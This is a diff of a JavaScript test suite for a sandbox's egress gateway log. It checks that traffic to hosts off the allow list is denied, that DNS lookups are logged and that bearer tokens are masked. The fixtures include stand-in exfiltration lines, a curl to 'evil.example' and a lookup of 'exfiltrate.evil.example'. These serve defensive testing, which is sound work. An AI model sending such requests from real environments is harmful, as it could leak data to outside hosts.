@@ -13,7 +13,7 @@ describe("the log of a sandbox's gateway", function () {
       `curl -sS -H "Authorization: Bearer $TOKEN" -H 'X-Private: header' -d 'a body' 'https://a.example/private/path?query=private'`,
     );
     await sandbox.run("curl -sS http://evil.example/private/path");
-    await sandbox.run("getent hosts exfiltrate.evil.example");
+    await sandbox.ask("exfiltrate.evil.example");
     await sandbox.logged(({ domain }) => domain === "exfiltrate.evil.example");
   });
 
@@ -63,7 +63,7 @@ describe("the log of a sandbox's gateway", function () {
     assert.deepEqual(lines.slice(0, 2), ["(ready)", "(policy)"]);
     assert.deepEqual(lines.slice(2, 6), [
       "allowed  CONNECT a.example:443 200  up 0 down 0",
-      "begun    POST a.example:443  with the secret TOKEN",
+      "started  POST a.example:443  with the secret TOKEN",
       "allowed  POST a.example:443 200  up 6 down N  with the secret TOKEN; masked in the answer: the secret TOKEN",
       'denied   GET evil.example:80 403  up 0 down 0  "evil.example" is not on its allow list (allowed: a.example, b.example)',
     ]);
@@ -78,7 +78,7 @@ describe("the log of a sandbox's gateway", function () {
     assert.deepEqual([exitCode, out], [1, ""]);
     assert.match(
       err,
-      /^There is no gateway of cntr_gone at docker:\S+\. It has no allow list, is gone, or is on another engine/,
+      /^There is no gateway of cntr_gone at (docker|podman):\S+\. It has no allow list, is gone, or is on another engine/,
     );
     assert.equal((await egress())[0], 2);
     assert.equal((await egress("a", "b"))[0], 2);
